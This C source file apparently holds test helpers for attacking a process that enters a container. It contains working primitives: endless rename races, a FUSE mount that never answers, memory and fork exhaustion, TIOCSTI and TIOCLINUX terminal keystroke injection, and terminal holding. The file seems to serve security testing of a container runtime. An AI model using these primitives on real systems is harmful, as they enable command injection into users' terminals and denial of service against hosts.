/* Attacks on what an entering process meets: paths, file systems, limits, terminals. */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <linux/fuse.h>
#include <linux/tiocl.h>

#define CTX_RENAME_EXCHANGE 2 /* RENAME_EXCHANGE */

/* swap A B: exchanges the two without end. */
int swap(int argc, char **argv)
{
    if (argc < 2) {
        return 2;
    }
    say("ready");
    for (;;) {
        if (syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], CTX_RENAME_EXCHANGE) < 0) {
            give_up("renameat2");
        }
    }
}

/* flap A B: moves A to B and back without end. */
int flap(int argc, char **argv)
{
    if (argc < 2) {
        return 2;
    }
    say("ready");
    for (;;) {
        if (rename(argv[0], argv[1]) < 0 || rename(argv[1], argv[0]) < 0) {
            give_up("rename");
        }
    }
}

static void answer_init(int fuse, const struct fuse_in_header *request)
{
    struct {
        struct fuse_out_header header;
        struct fuse_init_out init;
    } answer = {
        .header = {.len = sizeof(answer), .unique = request->unique},
        .init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = 4096, .max_background = 1},
    };
    if (write(fuse, &answer, sizeof(answer)) != sizeof(answer)) {
        give_up("answer FUSE_INIT");
    }
}

/* silent-fs PATH: mounts a file system that takes every request and answers none. */
int silent_fs(int argc, char **argv)
{
    static char request[1 << 17] __attribute__((aligned(8)));
    char options[128];
    if (argc < 1) {
        return 2;
    }
    int fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
    if (fuse < 0) {
        give_up("open /dev/fuse");
    }
    snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fuse);
    if (mount("silent", argv[0], "fuse", 0, options) < 0) {
        give_up("mount a fuse file system");
    }
    for (;;) {
        if (read(fuse, request, sizeof(request)) < 0) {
            continue;
        }
        const struct fuse_in_header *header = (const struct fuse_in_header *)request;
        if (header->opcode == FUSE_INIT) {
            answer_init(fuse, header);
            say("ready");
        } else {
            say("asked %u", header->opcode);
        }
    }
}

/* watch PATH...: says which of the files are opened, in order. */
int watch(int argc, char **argv)
{
    enum { MOST = 8 };
    int queue = inotify_init1(IN_CLOEXEC), watches[MOST];
    struct inotify_event event; /* one event at a time: that of a file, unlike a folder's, holds no name */
    for (int i = 0; i < argc && i < MOST; i++) {
        if ((watches[i] = inotify_add_watch(queue, argv[i], IN_OPEN)) < 0) {
            give_up(argv[i]);
        }
    }
    say("ready");
    while (read(queue, &event, sizeof(event)) == sizeof(event)) {
        for (int i = 0; i < argc && i < MOST; i++) {
            if (watches[i] == event.wd) {
                say("opened %s", argv[i]);
            }
        }
    }
    give_up("read what was opened");
}

/* hog MEGABYTES: takes so much memory and keeps it. */
int hog(int argc, char **argv)
{
    size_t size = (argc > 0 ? strtoul(argv[0], NULL, 10) : 0) << 20;
    char *memory = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (memory == MAP_FAILED) {
        give_up("mmap");
    }
    memset(memory, 1, size);
    say("ready");
    for (;;) {
        pause();
    }
}

/* forks: starts as many processes as the limits allow. */
int forks(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    unsigned count = 0;
    for (pid_t pid; count < 10000 && (pid = fork()) >= 0; count++) {
        if (pid == 0) {
            for (;;) {
                pause();
            }
        }
    }
    say("ready %u", count);
    for (;;) {
        pause();
    }
}

/* keys TEXT: types into every terminal that it finds: TIOCSTI. */
int keys(int argc, char **argv)
{
    const char *text = argc > 0 ? argv[0] : "x";
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC)};
    for (size_t i = 0; i < sizeof(fds) / sizeof(fds[0]); i++) {
        bool typed = fds[i] >= 0;
        for (const char *c = text; typed && *c != '\0'; c++) {
            typed = ioctl(fds[i], TIOCSTI, c) == 0;
        }
        if (typed) {
            say("typed on %zu", i);
        }
    }
    say("done");
    return 0;
}

/* paste TEXT: writes the text on every virtual console that it finds, selects the line and pastes it there:
 * TIOCLINUX. */
int paste(int argc, char **argv)
{
    struct {
        char code;
        struct tiocl_selection selection;
    } __attribute__((packed))
    select = {TIOCL_SETSEL, {.xs = 1, .ys = 1, .xe = 1, .ye = 1, .sel_mode = TIOCL_SELLINE}};
    char insert = TIOCL_PASTESEL;
    int fds[4] = {0, 1, 2, open("/dev/tty", O_RDWR | O_CLOEXEC)};
    for (size_t i = 0; i < sizeof(fds) / sizeof(fds[0]); i++) {
        if (fds[i] < 0 || dprintf(fds[i], "\033[H\033[2J%s\n", argc > 0 ? argv[0] : "x") < 0) {
            continue;
        }
        bool pasted = ioctl(fds[i], TIOCLINUX, &select) == 0 && ioctl(fds[i], TIOCLINUX, &insert) == 0;
        say("%zu: %s", i, pasted ? "pasted" : strerror(errno));
        if (pasted) {
            break;
        }
    }
    say("done");
    return 0;
}

/* hold-terminals: keeps every terminal of the container open, also one that was hung up. */
int hold_terminals(int argc, char **argv)
{
    enum { TERMINALS = 4, HELD = 8 };
    int held[TERMINALS][HELD];
    char path[32];
    (void)argc;
    (void)argv;
    memset(held, -1, sizeof(held));
    say("ready");
    for (unsigned round = 0;; round++) {
        for (int i = 0; i < TERMINALS; i++) {
            int *place = &held[i][round % HELD];
            snprintf(path, sizeof(path), "/dev/pts/%d", i);
            int fd = open(path, O_RDWR | O_NOCTTY | O_CLOEXEC);
            if (*place >= 0 && fd >= 0) {
                close(*place);
            }
            if (fd >= 0) {
                *place = fd;
            }
        }
    }
}

/* show: prints the command's ids and capabilities, one line. */
int show(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    printf("uid=%u euid=%u inh=%llx eff=%llx amb=%llx\n", (unsigned)getuid(), (unsigned)geteuid(),
           (unsigned long long)status_mask(getpid(), "CapInh"),
           (unsigned long long)status_mask(getpid(), "CapEff"),
           (unsigned long long)status_mask(getpid(), "CapAmb"));
    return 0;
}
